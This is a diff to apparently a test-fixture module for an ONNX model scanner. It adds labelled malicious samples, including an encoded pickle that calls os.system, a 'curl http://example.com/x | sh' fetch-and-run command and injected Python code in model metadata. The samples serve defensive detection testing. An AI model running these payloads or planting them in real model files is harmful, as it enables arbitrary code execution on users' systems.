@@ -127,6 +127,8 @@ def onnx_attacks() -> dict[str, tuple[str, bytes]]:
         "server": ("network", model(graph(node("AzureTextToText", "x", domain="com.microsoft.extensions")))),
         "evaluated metadata": ("code-in-metadata", model(graph(), field(14, field(1, "names") + field(2, "__import__('os').system('id')")))),
         "evaluated metadata, statements": ("code-in-metadata", model(graph(), field(14, field(1, "args") + field(2, "import subprocess\nsubprocess.run(['id'])")))),
+        "pickle in metadata": ("code-in-metadata", model(graph(), field(14, field(1, "scaler") + field(2, "Y29zCnN5c3RlbQooUydlY2hvIGhpJwp0Ui4=")))),
+        "command in metadata": ("code-in-metadata", model(graph(), field(14, field(1, "note") + field(2, "curl http://example.com/x | sh")))),
         "template in metadata": ("code-in-metadata", model(graph(), field(14, field(1, "t") + field(2, "{{ ''.__class__.__mro__ }}")))),
         "compiled model elsewhere": ("path-elsewhere", model(graph(node("EPContext", "x", domain="com.microsoft", more=context)))),
     }  # fmt: skip
@@ -139,6 +141,7 @@ def onnx_to_review() -> dict[str, tuple[str, bytes]]:
         "unknown operator": ("unknown-operator", model(graph(node("Florp", "x")))),
         "unknown operator of the runtime": ("unknown-operator", model(graph(node("Florp", "x", domain="com.microsoft")))),
         "tokenizer": ("unknown-operator", model(graph(node("BertTokenizer", "x", domain="ai.onnx.contrib")))),
+        "function in the place of an operator": ("overrides-operator", model(graph(), field(25, field(1, "Identity") + field(7, node_message("Neg", "x"))))),
         "compiled": ("opaque", model(graph(node("EPContext", "x", domain="com.microsoft")))),
     }  # fmt: skip
 
@@ -146,12 +149,18 @@ def onnx_to_review() -> dict[str, tuple[str, bytes]]:
 def malformed_onnx() -> dict[str, tuple[str, bytes]]:
     """Models that contradict themselves or hide something: name to (rule, bytes)."""
     deep = node("Relu", "x")
+    calls_itself = field(25, field(1, "F") + field(10, "d") + field(7, node_message("F", "x", domain="d")))
+    branch = field(5, field(1, "then_branch") + field(6, node("F", "x", domain="d")) + field(20, _GRAPH))
+    in_circle = field(25, field(1, "F") + field(10, "d") + field(7, node_message("G", "x", domain="d")))
+    in_circle += field(25, field(1, "G") + field(10, "d") + field(7, node_message("If", "x", more=branch)))
     for _ in range(60):
         deep = node("If", "c", more=field(5, field(1, "b") + field(6, deep) + field(20, _GRAPH)))
     whole = model(graph())
     return {
         "empty": ("malformed", b""),
         "cut": ("malformed", whole[:-3]),
+        "function that calls itself": ("malformed", model(graph(), calls_itself)),
+        "functions that call each other": ("malformed", model(graph(), in_circle)),
         "no graph": ("malformed", field(1, 8) + field(8, field(2, 17))),
         "two graphs": ("malformed", whole + field(7, graph())),
         "no version": ("malformed", field(7, graph()) + field(8, field(2, 17))),
